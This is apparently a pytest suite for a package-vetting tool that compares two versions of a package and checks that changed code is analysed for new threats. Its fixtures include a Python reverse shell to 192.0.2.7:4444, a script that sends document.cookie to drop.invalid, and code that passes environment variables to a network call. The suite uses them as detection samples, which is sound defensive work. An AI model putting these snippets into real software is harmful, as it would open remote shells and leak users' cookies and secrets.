"""A first look leaves out what a change could not have touched, and nothing that it could have."""

from dataclasses import replace
from pathlib import Path

import pytest
from package_lab import npm, wheel

from beartrap.vet.behaviour import Behaviour, When
from beartrap.vet.examine import examine
from beartrap.vet.kinds import Kind
from beartrap.vet.source.reading.changes import Changes, aligned
from beartrap.vet.source.reading.touched import Touched
from beartrap.vet.source.walk import machine_for, parse, walk
from beartrap.vet.source_files import Alone
from beartrap.vet.source_texts import CommandFiles
from beartrap.vet.talk import Order, Outcome
from vet.binary.binary_lab import java_class
from vet.source.source_lab import subject

BEFORE = """\
import os
import urllib.request

HOST = "https://api.vendor.invalid"

class Client:
    def __init__(self, token):
        self.token = token

    def send(self, body):
        return urllib.request.urlopen(HOST, data=body)

class Other:
    def send(self, body):
        return body

def facts():
    return "none"

def report(client):
    client = Client("")
    return client.send(facts())

def unrelated():
    return urllib.request.urlopen("https://docs.vendor.invalid")
"""


def test_lines_are_aligned_in_order_and_what_was_taken_out_has_its_place() -> None:
    assert aligned(["a", "b", "c", "d"], ["a", "x", "c", "d"]) == [0, -1, 2, 3]
    changes = Changes("a\nb\nc\nd", "a\nc\nd")
    assert changes.places == [3] and changes.gone == {3: ["b"]}
    assert changes.touches(1, 2) and not changes.touches(2, 3)


def test_a_line_that_moved_over_others_counts_as_changed() -> None:
    assert -1 in aligned(["a", "b", "c"], ["c", "a", "b"])


def test_equal_texts_have_no_changes() -> None:
    assert Changes(BEFORE, BEFORE).places == []


def chosen(after: str) -> set[str]:
    """Return the names of the functions that a first look walks."""
    module = parse("python", after)
    machine = machine_for("a.py", "python", after, When.IMPORT, Alone())
    walk(module, machine, late=False)
    some = Touched(BEFORE, after, module).chosen(machine)
    return {
        f"{one.own.closure.node.name}.{one.node.name}" if one.own and one.own.closure else one.node.name
        for one in machine.functions
        if id(one.node) in some
    }


@pytest.mark.parametrize(
    ("old", "new", "walked", "left"),
    [
        ('return "none"', "return os.environ", {"facts", "report"}, {"unrelated", "Client.send"}),
        ("api.vendor", "collect", {"Client.send"}, {"unrelated", "facts"}),
        ("        return body\n", "        return str(body)\n", {"Other.send"}, {"unrelated", "report", "Client.send"}),
        ("data=body)", "data=body + self.token)", {"Client.send", "Client.__init__", "report"}, {"unrelated", "facts"}),
        ("import urllib.request", "import evil as urllib", {"Client.send", "unrelated"}, {"facts"}),
    ],
)
def test_what_a_change_could_have_touched_is_walked_and_no_more(
    old: str, new: str, walked: set[str], left: set[str]
) -> None:
    assert BEFORE.count(old) == 1
    found = chosen(BEFORE.replace(old, new))
    assert walked <= found and not left & found


def vetted(tmp_path: Path, before: str, after: str) -> Outcome:
    old = wheel(tmp_path, "pkg", "1.0.0", {"pkg/__init__.py": "", "pkg/a.py": before})
    new = wheel(tmp_path, "pkg", "1.0.1", {"pkg/__init__.py": "", "pkg/a.py": after})
    return examine(Order(bytes(new), "new", bytes(old), "old"))


def test_what_a_changed_function_gives_to_an_untouched_one_is_followed(tmp_path: Path) -> None:
    after = BEFORE.replace('return "none"', "return str(dict(os.environ))")
    found = {one.id for one in vetted(tmp_path, BEFORE, after).found}
    assert "chain.environment-to-network" in found


def test_what_an_untouched_function_did_before_is_not_new_beside_a_change(tmp_path: Path) -> None:
    after = BEFORE.replace('return "none"', 'return "some"')
    assert vetted(tmp_path, BEFORE, after).found == ()


def test_a_file_that_shows_something_new_is_walked_as_a_whole(tmp_path: Path) -> None:
    shell = "\nimport socket\n\ndef far():\n    s = socket.create_connection(('192.0.2.7', 4444))\n"
    after = (
        BEFORE + shell + "    import subprocess, os\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['sh', '-i'])\n"
    )
    found = {one.id for one in vetted(tmp_path, BEFORE, after).found}
    assert "shell.remote" in found


def test_a_function_that_moved_into_another_class_is_walked() -> None:
    moved = BEFORE.replace("class Other:\n    def send", "class Other(Client):\n    def send")
    assert "Other.send" in chosen(moved)


def test_calls_that_a_first_look_could_not_follow_are_told(tmp_path: Path) -> None:
    """Walked with what it imports, a file uses up its fuel: it is looked at alone too, and that says what was not followed."""
    busy = "\n\n".join(
        f"def step{one}(x):\n    return [step{one + 1}(y) for y in (x, x, x, x)] + [b64decode(x)]" for one in range(12)
    )
    helper = "def step12(x):\n    return [x]\n"
    before = f"from base64 import b64decode\nfrom .helper import step12\n\n{busy}\n\nvalue = step0('a')\n"
    after = before.replace("(x, x, x, x)", "(x, x, x, x, x)", 1)
    old = wheel(tmp_path, "pkg", "1.0.0", {"pkg/__init__.py": before, "pkg/helper.py": helper})
    new = wheel(tmp_path, "pkg", "1.0.1", {"pkg/__init__.py": after, "pkg/helper.py": helper})
    gaps = [gap.why for gap in examine(Order(bytes(new), "new", bytes(old), "old")).gaps]
    assert any("Not all calls of functions of pkg/__init__.py were followed" in why for why in gaps)


def test_what_the_old_version_could_do_is_known_after_a_second_look(tmp_path: Path) -> None:
    """A binary that was rebuilt gained nothing, whatever else of the package had to be looked at twice."""
    before = BEFORE
    after = BEFORE.replace('return "none"', "return str(dict(os.environ))")
    builds = [java_class("a/B", "java/lang/Runtime::exec", "java/net/URL::openStream", *extra) for extra in ((), ("java/lang/String::trim",))]  # fmt: skip
    versions = [
        wheel(tmp_path, "pkg", f"1.0.{one}", {"pkg/a.py": text, "pkg/B.class": build})
        for one, (text, build) in enumerate(zip((before, after), builds, strict=True))
    ]
    found = {one.id for one in examine(Order(bytes(versions[1]), "new", bytes(versions[0]), "old")).found}
    assert "chain.environment-to-network" in found and "binary.gained-powers" not in found


PAGE = "<html><script>{}</script>\n<script>{}</script></html>"
SENDS = "fetch('https://drop.invalid/' + document.cookie);"
SHOWS = "document.title = 'a title';"


@pytest.mark.parametrize(
    ("before", "after", "seen"),
    [
        (PAGE.format(SENDS, SHOWS), PAGE.format(SENDS, SHOWS + SHOWS), False),
        (PAGE.format(SHOWS, SHOWS), PAGE.format(SENDS, SHOWS), True),
        (PAGE.format(SENDS, SHOWS), PAGE.format(SENDS + SHOWS, SHOWS), True),
        (None, PAGE.format(SENDS, SHOWS), True),
    ],
    ids=["another-script-changed", "new", "changed", "no-page-before"],
)
def test_scripts_that_stood_in_the_page_before_are_left_out(before: str | None, after: str, seen: bool) -> None:
    earlier = before.encode() if before is not None else None
    page = replace(subject("a.html", after), kind=Kind.HTML, before=earlier)
    assert any("drop.invalid" in one.key for one in CommandFiles().look(page) if isinstance(one, Behaviour)) == seen


def test_a_script_that_was_added_to_a_page_is_new_and_one_that_moved_is_not(tmp_path: Path) -> None:
    def told(before: str, after: str) -> set[str]:
        versions = [
            npm(tmp_path, "pages", f"1.0.{one}", {"index.html": text, "index.js": "exports.a = 1;\n"})
            for one, text in enumerate((before, after))
        ]
        outcome = examine(Order(*(part for path in reversed(versions) for part in (bytes(path), path.name))))
        assert isinstance(outcome, Outcome)
        return {one.id for one in outcome.found if one.id.startswith("chain.")}

    assert told(PAGE.format(SHOWS, SHOWS), PAGE.format(SHOWS, SENDS))
    assert not told(PAGE.format(SHOWS, SENDS), PAGE.format(SENDS, SHOWS + SHOWS))
